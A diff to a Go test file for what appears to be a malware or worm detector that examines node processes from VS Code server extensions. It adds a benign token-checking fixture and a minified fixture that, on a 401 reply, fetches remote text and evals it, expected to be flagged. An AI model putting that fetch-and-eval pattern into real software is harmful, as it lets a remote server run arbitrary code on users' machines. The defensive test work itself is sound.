@@ -89,6 +89,14 @@ func TestProcessesThatNothingStarts(t *testing.T) {
 			m.put(map[string]string{".vscode-server/bin/abc/out/server-main.js": "const a='https://api.github.com/user';h={Authorization:'Bearer '+t};if(s===401)retry();setInterval(()=>{},1e3);\n" + noise(400<<10), ".vscode-server/bin/abc/node": compiled(noise(1 << 20))})
 			return proc{name: "node", exe: m.path(".vscode-server/bin/abc/node"), args: []string{m.path(".vscode-server/bin/abc/node"), m.path(".vscode-server/bin/abc/out/server-main.js"), "--start-server"}, ppid: 1, socket: 777}
 		}, false, ""},
+		{"minified extension that asks who a token belongs to", func(m *machine) proc {
+			m.put(map[string]string{".vscode-server/extensions/pr/dist/extension.js": minified(4000) + "async function u(t){let r=await fetch('https://api.github.com/user',{headers:{Authorization:`Bearer ${t}`}});if(r.status===401)throw new Error('Bad credentials');let m=/scope=(.*)/.exec(r.headers.get('x'));return m&&m[1]?r.response.data:null}setInterval(()=>u(k),6e4);" + minified(4000)})
+			return proc{name: "node", exe: "/usr/bin/node", args: []string{"node", m.path(".vscode-server/extensions/pr/dist/extension.js")}, ppid: 1, sid: 4711}
+		}, false, ""},
+		{"minified monitor in such an extension", func(m *machine) proc {
+			m.put(map[string]string{".vscode-server/extensions/pr/dist/extension.js": minified(4000) + "async function u(t){let r=await fetch('https://api.github.com/user',{headers:{Authorization:`Bearer ${t}`}});if(r.status===401){let w=await fetch(h);eval(await w.text())}}setInterval(()=>u(k),6e4);" + minified(4000)})
+			return proc{name: "node", exe: "/usr/bin/node", args: []string{"node", m.path(".vscode-server/extensions/pr/dist/extension.js")}, ppid: 1, sid: 4711}
+		}, true, "runs what a file or a server hands it"},
 		{"development server at a terminal", func(m *machine) proc {
 			m.put(map[string]string{"work/app/server.js": "require('http').createServer().listen(3000); fetch('https://api.github.com/user', {headers: {authorization: t}})"})
 			return proc{name: "node", exe: "/usr/bin/node", args: []string{"node", "server.js"}, cwd: m.path("work/app"), tty: 34816, ppid: 50}
@@ -129,6 +137,15 @@ func TestProcessesThatNothingStarts(t *testing.T) {
 			}
 		})
 	}
+}
+
+// minified is code of many functions on one line, with the words that such code has.
+func minified(n int) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, "function f%d(e,response){var r=/^[a-z]+(%d)$/.exec(e),n=e.data;return r?response.body:String.fromCharCode(n)}", i, i)
+	}
+	return b.String()
 }
 
 // TestBuiltByHand: a test of somebody who works against worms holds a worm's
